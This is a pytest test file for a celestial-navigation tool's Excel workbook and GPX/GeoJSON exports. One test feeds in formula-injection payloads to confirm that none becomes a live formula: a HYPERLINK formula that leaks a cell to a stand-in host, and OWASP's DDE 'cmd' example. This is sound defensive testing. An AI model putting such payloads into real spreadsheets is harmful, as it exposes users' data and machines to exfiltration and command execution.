"""The workbook, the plotting sheets and the open-format exports."""

from __future__ import annotations

import json
import math
import re
import xml.etree.ElementTree as ET

import numpy as np
import openpyxl
import pandas as pd
import pytest

from navred.angles import format_angle
from navred.io.exports import GPX_NAMESPACE
from navred.io.output import atomic_write
from navred.io.workbook import SAFETY
from navred.jobs.chartfiles import write_voyage_geojson as write_geojson
from navred.jobs.chartfiles import write_voyage_gpx as write_gpx
from navred.jobs.voyage import process_log
from navred.jobs.voyagebook import write_workbook


@pytest.fixture(scope="module")
def mixed_log(tmp_path_factory):
    """The demo log with bad rows added among the good ones."""
    folder = tmp_path_factory.mktemp("log")
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    bad = demo.iloc[[5, 6]].copy()
    bad.iloc[0, bad.columns.get_loc("utc")] = "2026-03-26T19:41:00+25:00"  # no such zone
    bad.iloc[1, bad.columns.get_loc("body")] = "Betelguese"
    log = pd.concat([demo.iloc[:6], bad, demo.iloc[6:]], ignore_index=True)
    path = folder / "mixed.csv"
    log.to_csv(path, index=False)
    return path, len(log)


def test_every_input_row_is_in_the_workbook_and_values_read_back(mixed_log, tmp_path):
    path, n_rows = mixed_log
    voyage = process_log(path)
    out = write_workbook(voyage, tmp_path / "voyage.xlsx")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["About", "Sights as read", "Working", "Working by hand", "Fixes", "Rejected", "Sight plan",
                               "Day's work", "Noon report"]
    working = pd.DataFrame(list(book["Working"].values)[1:], columns=list(book["Working"].values)[0])
    rejected = pd.DataFrame(list(book["Rejected"].values)[1:], columns=list(book["Rejected"].values)[0])
    as_read = list(book["Sights as read"].values)
    assert len(as_read) - 1 == n_rows
    # round trip: reduced + rejected = input, no row twice
    reduced_rows = set(working["row in log"])
    rejected_rows = set(rejected["row in log"])
    # rows as a spreadsheet numbers them: the header is row 1, the sights rows 2 to n + 1
    assert reduced_rows | rejected_rows == set(range(2, n_rows + 2))
    assert not reduced_rows & rejected_rows
    assert rejected_rows == {8, 9}
    assert any("not a real one" in r for r in rejected.reason) and any("closest" in r for r in rejected.reason)
    # values read back with openpyxl equal what was computed
    computed = voyage.reduced[voyage.reduced.status != "error"].reset_index(drop=True)
    assert np.allclose(working["Ho (deg)"].astype(float), computed.ho_deg)
    assert np.allclose(working["Zn (deg true)"].astype(float), computed.zn_deg)
    assert list(working["TOWARD/AWAY"]) == list(computed.intercept_direction)
    fixes = pd.DataFrame(list(book["Fixes"].values)[1:], columns=list(book["Fixes"].values)[0])
    star_fix = next(g.fix for g in voyage.groups if g.name == "evening-stars")
    row = fixes[fixes["fix group"] == "evening-stars"].iloc[0]
    assert row["latitude (deg)"] == pytest.approx(star_fix.lat_deg)
    assert row["95 % semi-major (nm)"] == pytest.approx(star_fix.ellipse_semi_major_nm)
    assert len(book["Fixes"]._images) == 3  # a plotting sheet per fix
    # the front sheet carries the safety caution and the provenance
    about = [c for row in book["About"].values for c in row if c]
    assert SAFETY in about
    assert any("DE421" in str(c) for c in about) and any("finals2000A" in str(c) for c in about)
    assert book["Working"].freeze_panes == "A2"


def test_unknown_columns_reach_the_working_sheet(tmp_path):
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    demo["Cadet Note"] = [f"note {i}" for i in range(len(demo))]
    path = tmp_path / "noted.csv"
    demo.to_csv(path, index=False)
    book = openpyxl.load_workbook(write_workbook(process_log(path), tmp_path / "noted.xlsx", plots=False))
    values = list(book["Working"].values)
    assert "cadet_note" in values[0]
    assert [row[values[0].index("cadet_note")] for row in values[1:]] == [f"note {i}" for i in range(len(demo))]


def test_the_workbook_plans_the_next_twilight(mixed_log, tmp_path):
    voyage = process_log(mixed_log[0])
    plan = voyage.next_plan
    last_fix = max(g.fix.utc for g in voyage.groups if g.fix is not None)
    assert plan.utc > last_fix + np.timedelta64(6, "h")  # the morning after the evening stars
    assert plan.recommended.sum() == 3
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx"))
    cells = [c for row in book["Sight plan"].values for c in row if c]
    assert "How the set was chosen" in cells and len(book["Sight plan"]._images) == 1


def test_a_fleet_workbook_plans_each_vessels_next_twilight(tmp_path):
    """Two vessels in one log (the invented demo as Alba; its first three Sun sights again as Brisa): each gets
    the plan of its own next twilight after its own latest fix, named; a one-vessel log's plan names its vessel.
    The twilights are navred's own (tested against skyfield in tests/test_plan.py)."""
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    fleet = pd.concat([demo.assign(vessel="Alba"), demo.iloc[:3].assign(vessel="Brisa")], ignore_index=True)
    path = tmp_path / "fleet.csv"
    fleet.to_csv(path, index=False)
    voyage = process_log(path)
    plans = dict(voyage.vessel_plans)
    assert list(plans) == ["Alba", "Brisa"]
    latest = {name: max(g.fix.utc for g in voyage.groups if g.fix is not None and g.name.startswith(name))
              for name in plans}
    for name, plan in plans.items():  # the first twilight that begins after the vessel's own latest fix
        assert latest[name] < plan.utc < latest[name] + np.timedelta64(15, "h")
    assert plans["Brisa"].utc < plans["Alba"].utc  # Brisa's last fix is the afternoon Sun: that evening's twilight
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "fleet.xlsx"))
    values = list(book["Sight plan"].values)
    # each vessel's when and where above the table, then the table with its vessel column
    assert [row[0] for row in values[:4]] == ["When and where", "How the set was chosen"] * 2
    assert values[5][0] == "vessel"
    assert {row[0] for row in values[6:] if row[0] in plans} == {"Alba", "Brisa"}
    cells = [str(c) for row in values for c in row if c]
    assert any(c.startswith("Alba: 2026-03-27") for c in cells) and any(c.startswith("Brisa: 2026-03-26") for c in cells)
    assert len(book["Sight plan"]._images) == 2
    one = openpyxl.load_workbook(write_workbook(process_log("sample_sights/demo_sights.csv"), tmp_path / "one.xlsx"))
    cells = [str(c) for row in one["Sight plan"].values for c in row if c]
    assert any(c.startswith("Moth Orchid (invented): ") for c in cells)
    assert list(one["Sight plan"].values)[3][0] == "body"  # one vessel: no vessel column, below its when and where


def test_summary_counts(mixed_log):
    voyage = process_log(mixed_log[0])
    assert voyage.summary() == "11 sights reduced, 3 fixes, 2 rejected"


def test_gpx_and_geojson_exports(tmp_path):
    voyage = process_log("sample_sights/demo_sights.csv")
    gpx = ET.parse(write_gpx(voyage, tmp_path / "fixes.gpx")).getroot()
    assert gpx.tag == f"{{{GPX_NAMESPACE}}}gpx" and gpx.get("version") == "1.1"  # GPX 1.1 schema
    points = gpx.findall(f"{{{GPX_NAMESPACE}}}wpt")
    assert len(points) == 7  # a fix and a DR per group, and the day's noon (its logged DR gives the DR a start)
    assert sum(p.find(f"{{{GPX_NAMESPACE}}}name").text.startswith("noon") for p in points) == 1
    star = next(g.fix for g in voyage.groups if g.name == "evening-stars")
    fix_point = next(p for p in points if p.find(f"{{{GPX_NAMESPACE}}}name").text == "fix evening-stars")
    assert float(fix_point.get("lat")) == pytest.approx(star.lat_deg, abs=1e-6)
    data = json.loads(write_geojson(voyage, tmp_path / "fixes.geojson").read_text())
    assert data["type"] == "FeatureCollection"
    kinds = [f["properties"]["kind"] for f in data["features"]]
    assert kinds.count("fix") == 3 and kinds.count("line of position") == 11
    fix_feature = next(f for f in data["features"] if f["properties"]["kind"] == "fix"
                       and f["properties"]["fix_group"] == "evening-stars")
    # RFC 7946: positions are [longitude, latitude]
    assert fix_feature["geometry"]["coordinates"] == pytest.approx([star.lon_deg, star.lat_deg])
    ring = next(f for f in data["features"] if f["properties"]["kind"] == "95 % ellipse")["geometry"]["coordinates"][0]
    assert ring[0] == ring[-1]


def test_a_gpx_file_holds_no_empty_element(tmp_path):
    # GPX 1.1 (Topografix schema): a track is made of segments of points; a chart plotter lists an empty <trk>
    # as a nameless item. One star fix and no departure: the DR has no leg yet, so there is no track at all.
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    stars = demo[demo.fix_group == "evening-stars"]
    stars.to_csv(tmp_path / "stars.csv", index=False)
    tracks = []
    for voyage in (process_log(tmp_path / "stars.csv", plan=False), process_log("sample_sights/demo_sights.csv")):
        gpx = ET.parse(write_gpx(voyage, tmp_path / "v.gpx")).getroot()
        for element in gpx.iter():
            assert len(element) or (element.text or "").strip() or element.attrib, f"an empty <{element.tag}>"
        tracks.append(gpx.findall(f"{{{GPX_NAMESPACE}}}trk"))
        for track in tracks[-1]:
            segments = track.findall(f"{{{GPX_NAMESPACE}}}trkseg")
            assert segments and all(len(s.findall(f"{{{GPX_NAMESPACE}}}trkpt")) >= 2 for s in segments)
    # the demo's DR track from its logged DR (09:10, hours before its first fix); the stars' logged DRs are minutes
    # before their fix: no start
    assert len(tracks[0]) == 0 and len(tracks[1]) == 1


def test_atomic_write_keeps_the_old_file_when_interrupted(tmp_path):
    target = tmp_path / "voyage.xlsx"
    target.write_text("the good old log")

    def interrupted(path):
        with open(path, "w") as handle:
            handle.write("half a work")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, interrupted)
    assert target.read_text() == "the good old log"
    assert [p.name for p in tmp_path.iterdir()] == ["voyage.xlsx"]  # no temporary left behind


def test_progress_is_reported_for_a_large_log(tmp_path):
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    big = pd.concat([demo] * 550, ignore_index=True)
    # each copy its own fix groups, as a long log has (the progress is the point, not one group of 2,200 sights,
    # whose fix statistics grow with the square of its size)
    big["fix_group"] = big.fix_group + " " + (big.index // len(demo)).astype(str)
    path = tmp_path / "big.csv"
    big.to_csv(path, index=False)
    calls = []
    voyage = process_log(path, progress=lambda done, total: calls.append((done, total)))
    assert calls[-1] == (len(big), len(big)) and len(calls) > 1
    assert voyage.n_reduced == len(big)


def test_the_working_sheet_adds_up_and_shows_its_numbers_to_a_tenth(tmp_path):
    import datetime as dt

    voyage = process_log("sample_sights/demo_sights_hand_kept.csv")
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx", plots=False))
    sheet = book["Working"]
    header = [c.value for c in sheet[1]]
    row = [c for c in sheet[2]]
    cell = dict(zip(header, row))
    # every correction signed: Hs + the total correction = Ho, and the total is the sum of the lines
    lines = ["IC (′)", "horizon (′)", "dip (′)", "refraction (′)", "SD (′)", "parallax (′)", "phase (′)"]
    total = sum(cell[name].value for name in lines)
    assert total == pytest.approx(cell["total correction (′)"].value, abs=1e-9)
    assert cell["Hs (deg)"].value + total / 60 == pytest.approx(cell["Ho (deg)"].value, abs=1e-12)
    assert cell["dip (′)"].value < 0 and cell["refraction (′)"].value < 0
    # displayed to 0.1′ (decimal degrees to 0.0001°) while the cell keeps full precision
    assert cell["dip (′)"].number_format == "0.0" and cell["Ho (deg)"].number_format == "0.0000"
    assert isinstance(cell["UTC"].value, dt.datetime) and cell["UTC"].number_format == "yyyy-mm-dd hh:mm:ss"
    # the time working and the units as given are shown
    assert cell["time as read"].value == "08:09:53" and cell["watch error"].value == "7 s slow"  # as the log wrote it
    assert cell["ZD (h)"].value == "+1" and cell["height of eye as given"].value == "9.1864 feet"


def test_text_from_a_log_is_never_written_as_a_formula(tmp_path):
    # OWASP, "CSV Injection": a cell that begins with = (or +, -, @) must not become a live formula
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    demo["observer"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    demo["fix_group"] = "@SUM(1+1)"
    demo["=cmd|' /C calc'!A0"] = "+1+1"  # an extra column named like a formula (OWASP's own example)
    demo["remark\x07"] = "-2-2"  # a control character in a header: the format cannot hold it
    path = tmp_path / "=injected.csv"  # the file name is written too (About sheet)
    demo.to_csv(path, index=False)
    book = openpyxl.load_workbook(write_workbook(process_log(path), tmp_path / "v.xlsx", plots=False))
    seen = set()
    for name in book.sheetnames:
        for cells in book[name].iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert demo.observer[0] in seen and "=cmd|' /C calc'!A0" in seen and "+1+1" in seen
    assert "remark\ufffd" in seen  # the control character shown as U+FFFD, the rest kept
    assert any(v.startswith("@SUM(1+1)") for v in seen) and any("=injected.csv" in v for v in seen)


def test_a_workbooks_tables_go_to_a_temporary_file_as_they_are_made_and_come_back_unchanged(tmp_path, monkeypatch):
    """A table's rows are made a few at a time and written to a temporary file, not held until the save; the
    workbook streamed from it is, sheet for sheet, the one made with every row at once."""
    import zipfile

    import navred.io.xlsxtables as xlsxtables

    voyage = process_log("sample_sights/training_sights.csv", plan=False)
    made = []
    original = xlsxtables.TableWriter.write

    def watched(self, sheet, frame, **options):
        original(self, sheet, frame, **options)
        made.append(self._plans[sheet.title].blocks[-1])

    monkeypatch.setattr(xlsxtables.TableWriter, "write", watched)
    monkeypatch.setattr(xlsxtables, "ROWS_AT_ONCE", 7)
    few = write_workbook(voyage, tmp_path / "few.xlsx", plots=False)
    spilled = [block for block in made if block.lengths is not None]
    assert spilled and all(block.rows == [] and len(block.lengths) == block.last_row - block.first_row + 1
                           for block in spilled)
    monkeypatch.setattr(xlsxtables, "ROWS_AT_ONCE", 1_000_000)
    many = write_workbook(voyage, tmp_path / "many.xlsx", plots=False)
    with zipfile.ZipFile(few) as a, zipfile.ZipFile(many) as b:
        assert a.namelist() == b.namelist()
        for name in a.namelist():
            if name.startswith("xl/worksheets/") and "sheet1.xml" not in name:  # (the About sheet has the time)
                assert a.read(name) == b.read(name), name
    book = openpyxl.load_workbook(few, read_only=True)
    assert book["Working"].max_row == len(voyage.reduced) + 1


def sheet_frame(sheet) -> tuple[pd.DataFrame, dict]:
    """A sheet's table (down to its first empty row) and each column's number format (of its first data row)."""
    values = list(sheet.values)
    end = next((k for k, row in enumerate(values) if all(v is None for v in row)), len(values))
    values = values[:end]
    formats = {c.value: sheet.cell(row=2, column=c.column).number_format for c in sheet[1]}
    return pd.DataFrame(values[1:], columns=values[0]), formats


def test_the_fixes_sheet_reads_as_the_trade_writes(tmp_path):
    """The angle of cut (0°-90°), true directions in three figures to 0.1°, positions in degrees and minutes to
    0.1′ with the decimal degrees beside at full precision, and a blank cell nowhere without a reason: the
    demo with one of its Sun sights made a group of its own (one sight: no fix, and the sheet says why)."""
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    demo.loc[3, "fix_group"] = "lonely"  # the Moon alone, and Jupiter left alone in its group
    demo.to_csv(tmp_path / "log.csv", index=False)
    voyage = process_log(tmp_path / "log.csv", plan=False)
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx", plots=False))
    fixes, formats = sheet_frame(book["Fixes"])
    working, working_formats = sheet_frame(book["Working"])
    assert "lines cross at (deg)" not in fixes.columns
    # a fix from sights taken hours apart, carried by the run, is a running fix (common practice), as on its sheet
    # the limb worked beside the body, whose SD the sheet applies (a star or planet has none)
    assert working.loc[working["body"] == "Sun", "limb"].tolist() == ["lower"] * 3
    assert set(working.loc[working["body"] == "Sirius", "limb"]) == {"none (a point of light)"}
    # the noon Sun's latitude beside its Ho, as navred fix prints it (row 3: the Sun at 12:56, on the meridian)
    noon = working.loc[working["row in log"] == 3, "latitude (° ′)"].iloc[0]
    assert noon.endswith("(meridian altitude)")
    truth = pd.read_csv("sample_sights/demo_truth.csv")  # the invented demo's true track (skyfield's sky)
    assert dm(noon.split(" (")[0]) == pytest.approx(float(truth.loc[1, "true_lat_deg"]) * 60.0, abs=0.3)
    # the stars near the meridian give an ex-meridian latitude within its limit (navred fix's latitude checks)
    others = set(working.loc[~working["row in log"].isin([3, 6, 7, 9]), "latitude (° ′)"])
    assert others == {"not on the meridian"}
    # each beside the DR longitude its hour angle comes from, and what 10′ of error in it does (docs/fix.md)
    assert all(" (ex-meridian); rests on the DR longitude 013° 0" in t and ": 10′ of error in it moves the latitude "
               in t for t in working.loc[working["row in log"].isin([6, 7, 9]), "latitude (° ′)"])
    kinds = dict(zip(fixes["fix group"], fixes["kind"]))
    assert kinds["sun-run-sun"] == "running fix" and kinds["evening-stars"] == "fix"
    for row in fixes.to_dict("records"):
        assert all(v is not None and v != "" for v in row.values()), row  # a reason for every blank
        if row["kind"].startswith("no fix"):
            assert row["fix group"] in ("lonely", "moon-planet") and "1 usable sight" in row["kind"]
            assert row["sight σ (′)"] == "no fix"
            continue
        # the angle of cut: the widest acute angle between two of the lines (each runs across its Zn; common
        # practice), worked here from the Working sheet's Zn of the group's sights
        zn = working.loc[working["fix group"] == row["fix group"], "Zn (deg true)"].astype(float).to_numpy()
        pairs = [abs(a - b) % 180.0 for i, a in enumerate(zn) for b in zn[i + 1:]]
        assert row["angle of cut (deg)"] == pytest.approx(max(min(p, 180.0 - p) for p in pairs), abs=0.05)
        assert 0.0 <= row["angle of cut (deg)"] <= 90.0
        assert re.fullmatch(r"\d\d° \d\d\.\d′ [NS]", row["latitude (° ′)"])
        assert re.fullmatch(r"\d\d\d° \d\d\.\d′ [EW]", row["longitude (° ′)"])
        assert dm(row["latitude (° ′)"]) == pytest.approx(row["latitude (deg)"] * 60.0, abs=0.05)
    assert formats["major axis (deg true)"] == "000.0" and formats["angle of cut (deg)"] == "0"
    assert formats["latitude (deg)"] == "0.0000" and working_formats["Zn (deg true)"] == "000.0"
    assert working_formats["intercept (nm)"] == "0.0"
    # the cells keep full precision behind the figures shown
    fix = voyage.group("evening-stars").fix
    star_row = fixes[fixes["fix group"] == "evening-stars"].iloc[0]
    assert star_row["major axis (deg true)"] == pytest.approx(fix.ellipse_orientation_deg, abs=1e-9)
    assert star_row["latitude (deg)"] == pytest.approx(fix.lat_deg, abs=1e-12)
    moon = working[working["fix group"] == "lonely"].iloc[0]
    assert moon["residual at fix (′)"].startswith("no fix: 1 usable sight")


def dm(text: str) -> float:
    """'43° 16.6′ N' as signed arcminutes (south and west negative)."""
    degrees, minutes = text[:-2].replace("′", "").split("°")
    return (-1.0 if text.endswith(("S", "W")) else 1.0) * (float(degrees) * 60.0 + float(minutes))


def test_defaults_are_shown_as_assumed_and_no_zero_is_signed(tmp_path):
    """A log that leaves temperature, pressure and index error blank: the Working sheet shows '10 °C assumed',
    '1010 hPa assumed', '0′ assumed' (vocabulary.COLUMNS's defaults), never as observed; one that gives them
    shows the numbers. An index error of 0 gives an IC of 0.0, not -0.0, and no number in any table shows as
    a signed zero at the precision its column shows."""
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    blank = demo.drop(columns=["temperature_c", "pressure_hpa"]).assign(index_error_arcmin="")
    blank.loc[0, "index_error_arcmin"] = "0.0"  # one sight gives it: a zero index error, observed
    blank.to_csv(tmp_path / "blank.csv", index=False)
    book = openpyxl.load_workbook(write_workbook(process_log(tmp_path / "blank.csv", plan=False), tmp_path / "b.xlsx",
                                                 plots=False))
    working, _ = sheet_frame(book["Working"])
    assert set(working["temperature (°C)"]) == {"10 °C assumed"}
    assert set(working["pressure (hPa)"]) == {"1010 hPa assumed"}
    assert working["index error (′, on +)"].iloc[0] == 0.0
    assert set(working["index error (′, on +)"].iloc[1:]) == {"0′ assumed"}
    assert all(math.copysign(1.0, v) == 1.0 for v in working["IC (′)"])  # IC = −IE: 0.0, not −0.0
    given = openpyxl.load_workbook(write_workbook(process_log("sample_sights/demo_sights.csv", plan=False),
                                                  tmp_path / "g.xlsx", plots=False))
    working, _ = sheet_frame(given["Working"])
    assert working["temperature (°C)"].tolist() == [10.0] * len(working)  # given in the log: observed
    for book_ in (book, given):
        for name in ("Working", "Working by hand", "Fixes"):
            sheet = book_[name]
            for column in sheet.iter_cols(min_row=2):
                for cell in column:
                    form = cell.number_format
                    if isinstance(cell.value, float) and form != "General":
                        decimals = len(form.split(".")[1]) if "." in form else 0
                        shown = f"{cell.value:.{decimals}f}"
                        assert not (shown.startswith("-") and float(shown) == 0.0), (name, cell.coordinate, cell.value)


def test_every_header_a_person_reads_is_in_the_trades_words(tmp_path):
    """Every table's header on every sheet is a display label (words and a unit, 'personal error (′)'), never a
    program's snake_case name (error_arcmin), except the log's own columns, shown as the log names them (the
    Sights as read sheet, and a log's extra columns carried along)."""
    from navred.io.timesignals import read_rating_log
    from navred.jobs.training import train_log

    run = train_log("sample_sights/training_sights.csv", "sample_sights/training_track.gpx")
    books = [(write_workbook(run.voyage, tmp_path / "t.xlsx", plots=False, training=run.report), run.voyage)]
    rates = read_rating_log("sample_sights/passage_time_signals.csv")
    passage = process_log("sample_sights/passage_log_chronometer.csv", rates=rates)
    books.append((write_workbook(passage, tmp_path / "p.xlsx", plots=False), passage))
    for path, voyage in books:
        book = openpyxl.load_workbook(path)
        own = set(voyage.log.extra_columns)
        for sheet in book.worksheets:
            if sheet.title == "Sights as read":
                continue
            for row in sheet.iter_rows():
                for cell in row:
                    header = cell.fill is not None and str(cell.fill.fgColor.rgb).endswith("1D3557")
                    if header and isinstance(cell.value, str) and cell.value not in own:
                        assert not re.fullmatch(r"[a-z0-9]+(_[a-z0-9]+)+", cell.value), (sheet.title, cell.value)
        assert "Training" not in book.sheetnames or any(
            c.value == "personal error (′)" for row in book["Training"].iter_rows() for c in row)


def test_a_blank_cell_refused_reads_blank_and_a_lone_sight_says_why(tmp_path):
    """The Rejected sheet writes a blank value as '(blank)' (an empty cell reads as a lost one); a group left with
    one sight says so in sea English and what one sight gives instead (common practice)."""
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    demo.loc[9, "hs"] = ""  # Regulus' altitude left blank
    demo.loc[3, "fix_group"] = "lonely"
    demo.to_csv(tmp_path / "log.csv", index=False)
    voyage = process_log(tmp_path / "log.csv", plan=False)
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx", plots=False))
    rejected, _ = sheet_frame(book["Rejected"])
    assert rejected.loc[rejected["row in log"] == 11, "value"].tolist() == ["(blank)"]
    fixes, _ = sheet_frame(book["Fixes"])
    lonely = fixes.loc[fixes["fix group"] == "lonely", "kind"].iloc[0]
    assert "1 usable sight: a fix needs two or more (one sight gives a line of position" in lonely
    assert "sight(s)" not in " ".join(map(str, fixes["kind"]))


def test_the_sight_plan_sheet_in_the_trade_figures(tmp_path):
    """Magnitudes to 0.1 and the Moon's distance to the degree, as a star list prints them; 'yes' or 'no' in
    every recommended cell (common practice)."""
    voyage = process_log("sample_sights/demo_sights.csv")
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx", plots=False))
    values = list(book["Sight plan"].values)
    # when and where above the table, as a plan is read (common practice)
    assert values[0][0] == "When and where" and " UTC, DR " in values[0][1]
    assert values[1][0] == "How the set was chosen" and values[2][0] is None
    end = next((k for k in range(3, len(values)) if all(v is None for v in values[k])), len(values))
    plan = pd.DataFrame(values[4:end], columns=values[3])
    plan = plan[plan["body"].notna() & plan["magnitude"].notna()]
    assert len(plan) >= 5
    assert all(round(float(m), 1) == float(m) for m in plan["magnitude"])
    assert all(float(d) == round(float(d)) for d in plan["from the Moon (deg)"].dropna())
    assert set(plan["recommended"]) == {"yes", "no"}


def test_the_days_work_sheet_says_why_each_blank_is_blank(tmp_path):
    """The first noon has no run, a drift within its uncertainty no set, a latitude on the meridian no
    ex-meridian limit, an entry no course of its own: each blank cell says so (common practice: a blank in a
    log is a question)."""
    voyage = process_log("sample_sights/passage_log.csv")
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "p.xlsx", plots=False))
    values = list(book["Day's work"].values)
    blocks, k = [], 0
    while k < len(values):  # each block: a title row, a header row, its rows, then an empty row
        if values[k][0] and k + 1 < len(values) and values[k + 1][0] in ("vessel", "row"):
            header = [h for h in values[k + 1] if h is not None]
            end = next((j for j in range(k + 2, len(values)) if all(v is None for v in values[j])), len(values))
            blocks.append([dict(zip(header, row)) for row in values[k + 2:end]])
            k = end
        k += 1
    assert len(blocks) >= 5 and all(blocks)
    for block in blocks:  # noons, set and drift, estimated positions, latitudes, the DR's entries
        for row in block:
            assert all(v is not None and v != "" for v in row.values()), row
    first = blocks[0][0]
    # the reason in a few words: a number's cell holds no sentence (the trial: "numeric cells hold whole sentences")
    assert first["run (nm)"] == "first noon: no run"
    for block in blocks:
        for row in block:
            for column, v in row.items():
                if "(nm)" in column or "(kn)" in column or "(deg)" in column:
                    assert isinstance(v, float) or len(str(v).split()) <= 4, (column, v)
    assert isinstance(blocks[0][1]["run (nm)"], float)


def test_the_sight_plan_sheet_presets_the_same_hs_as_navred_plan(tmp_path):
    """The sheet's "Hs to preset" is the reading to set on the sextant, not Hc: the same numbers ``navred plan``
    prints for the same instant, DR, height of eye and index error (one function, navred.presets.sight_presets),
    and a few minutes above Hc for a star at twilight (dip and refraction taken back off; common practice)."""
    from navred.jobs.bridge import bridge_plan

    voyage = process_log("sample_sights/demo_sights.csv")
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx", plots=False))
    values = list(book["Sight plan"].values)
    end = next((k for k in range(3, len(values)) if all(v is None for v in values[k])), len(values))
    sheet = pd.DataFrame(values[4:end], columns=values[3]).set_index("body")
    assert "Hc to preset (° ′)" not in sheet.columns and "Hs to preset (° ′)" in sheet.columns
    plan = voyage.next_plan
    sextant = next(iter(voyage.plan_presets.values()))
    assert (sextant.eye_height_m, sextant.index_error_arcmin) == (2.8, 1.4)  # the demo's last sight
    assert "2.8 m" in values[0][1] and "1.4′ on the arc" in values[0][1]
    when = np.datetime64(plan.utc, "m")
    assert np.datetime64(plan.utc, "ns") == np.datetime64(when, "ns")  # to the whole minute, as navred plan plans
    # navred plan at that instant from a DR standing at the plan's position (speed 0)
    bridge = bridge_plan(str(when)[:10], 1, plan.lat_deg, plan.lon_deg, eye_height_m=2.8, index_error_arcmin=1.4,
                         at=str(when) + "Z")
    printed = bridge.rounds[0].presets
    assert (printed.lat_deg, printed.lon_deg) == pytest.approx((plan.lat_deg, plan.lon_deg), abs=1e-9)
    assert set(printed.body) == set(sheet.index)
    for body, hs, hc in zip(printed.body, printed.hs_deg, printed.hc_deg):
        assert sheet.loc[body, "Hs to preset (deg)"] == pytest.approx(hs, abs=1e-9)
        assert sheet.loc[body, "Hs to preset (° ′)"] == format_angle(hs, "signed")
        assert 2.0 < (hs - hc) * 60 < 9.0  # dip 2.9′ + refraction 0.8′-3.4′ + IE 1.4′ above Hc



def test_the_sight_plan_sheet_gives_no_sea_preset_for_another_horizon():
    """A plan run on from a sight not taken from the sea horizon: a sea-horizon preset would mislead, so the cell
    says why it has no number (common practice: a blank says why)."""
    from navred.jobs.voyagetables import plan_table

    plan = process_log("sample_sights/demo_sights.csv").next_plan
    table = plan_table(plan, None)
    assert set(table["Hs to preset (° ′)"]) == {"no sea horizon"} and table["Hs to preset (deg)"].isna().all()
